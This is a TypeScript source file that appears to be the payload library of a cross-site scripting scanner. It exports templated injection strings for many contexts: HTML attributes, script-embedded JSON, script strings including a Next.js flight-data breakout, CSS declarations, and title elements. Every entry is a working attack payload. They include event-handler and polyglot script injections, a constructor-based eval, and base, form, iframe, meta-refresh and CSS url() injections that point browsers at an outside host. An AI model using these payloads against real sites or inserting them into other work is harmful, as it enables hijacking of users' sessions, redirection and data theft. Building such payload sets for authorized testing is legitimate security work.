import type { Recipes } from './vector.ts';

/** Texts that end a quoted or an unquoted attribute. */
export const attributeVectors: Recipes = {
  'double quote and script': ({ js }) => `"><script>${js}</script>`,
  'double quote and image': ({ js }) => `"><img src=x onerror=${js}>`,
  'double quote and handler': ({ js }) => `" autofocus tabindex=1 onfocus="${js}`,
  'double quote and mouse': ({ js }) => `" onmouseover="${js}" x="`,
  'double quote without space': ({ js }) => `"onmouseover=${js}//`,
  'double quote and slash': ({ js }) => `"/onmouseover="${js}`,
  'double quote and style': ({ host }) => `" style="background:url(https://${host}/a.png)`,
  'double quote after a backslash': ({ js }) => `\\"><img src=x onerror=${js}>`,
  'double quote and svg': ({ js }) => `"><svg/onload=${js}>`,
  'double quote and base': ({ host }) => `"><base href="https://${host}/">`,
  'double quote and id': ({ mark }) => `" id="${mark}" x="`,
  'double quote and a frame': ({ host }) => `"><iframe src="https://${host}/">`,
  'double quote and a form': ({ host }) => `"><form action="https://${host}/"><button>x</button>`,
  'every quote at once': ({ js }) => `'"\`><img src=x onerror=${js}>`,
  'polyglot of quotes': ({ js }) => `'">><marquee><img src=x onerror=${js}></marquee>"></plaintext\\></|\\>`,
  'polyglot of contexts': ({ js }) =>
    `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${js}//'>"><img src=x onerror=${js}>`,
};

export const unquotedVectors: Recipes = {
  'space and handler': ({ js }) => `x onmouseover=${js}`,
  'line end and handler': ({ js }) => `x\nonmouseover=${js}`,
  'form feed and handler': ({ js }) => `x\fonmouseover=${js}`,
  'tab and handler': ({ js }) => `x\tonmouseover=${js}`,
  'bracket and image': ({ js }) => `x><img src=x onerror=${js}>`,
  'space and id': ({ mark }) => `x id=${mark}`,
};

/** Texts that end a block of structured data or of the framework's own. */
export const jsonVectors: Recipes = {
  'end of script': ({ js }) => `</script><script>${js}</script>`,
  'end of script in capitals': ({ js }) => `</SCRIPT><script>${js}</script>`,
  'end of script with space': ({ js }) => `</script ><img src=x onerror=${js}>`,
  'end of script with slash': ({ js }) => `</script/><img src=x onerror=${js}>`,
  'end of script with line end': ({ js }) => `</script\n><img src=x onerror=${js}>`,
  'end of script with attribute': ({ js }) => `</script x="a"><svg onload=${js}>`,
  'end of script with a long s': ({ js }) => `</ſcript></script><img src=x onerror=${js}>`,
  'end of script behind a comment': ({ js }) => `<!--<script></script></script><img src=x onerror=${js}>`,
  'end of script behind a backslash': ({ js }) => `\\</script><img src=x onerror=${js}>`,
  'end of script behind quotes': ({ js }) => `"}]}</script><img src=x onerror=${js}>`,
  'end of script twice': ({ js }) => `</scr</script>ipt></script><img src=x onerror=${js}>`,
};

/** Texts that end a string in a script. */
export const stringVectors: Recipes = {
  'double quote': ({ js }) => `";${js}//`,
  'double quote and line': ({ js }) => `"\n;${js};"`,
  'double quote behind a minus': ({ js }) => `"-${js}-"`,
  'double quote behind a backslash': ({ js }) => `\\";${js}//`,
  'end of the array': ({ js }) => `"]);${js}//`,
  'push of the framework': ({ js }) => `"])</script><script>self.__next_f.push([1,"x"]);${js}</script>`,
  'template string': ({ js }) => `"+\`\${${js}}\`+"`,
  'unicode escapes': ({ js }) => `\\u0022;${js}//";${js}//`,
  prototype: ({ js }) => `";({}).constructor.constructor('${js}')()//`,
};

/** Texts that end a declaration in a style. */
export const cssVectors: Recipes = {
  'end of style': ({ js }) => `</style><img src=x onerror=${js}>`,
  address: ({ host }) => `red;background:url(https://${host}/a.png)`,
  'address in quotes': ({ host }) => `red;background:url("https://${host}/a.png")`,
  'end of rule': ({ host }) => `red}body{background:url(https://${host}/a.png)}`,
  'image set': ({ host }) => `red;background:image-set("https://${host}/a.png" 1x)`,
  cursor: ({ host }) => `red;cursor:url(https://${host}/a.cur),auto;list-style:url(//${host}/b)`,
  content: ({ host }) => `red}body::before{content:url(https://${host}/a.png)}`,
};

/** Texts that end an element whose content is no markup. */
export const rawTextVectors: Recipes = {
  'end of title': ({ js }) => `</title><img src=x onerror=${js}>`,
  'end of title and script': ({ js }) => `</title><script>${js}</script>`,
  'end of title in capitals': ({ js }) => `</TITLE ><svg onload=${js}>`,
  'end of title and refresh': ({ host }) =>
    `</title><meta http-equiv=refresh content="0;url=https://${host}/">`,
  'end of title and base': ({ host }) => `</title><base href=https://${host}/>`,
};
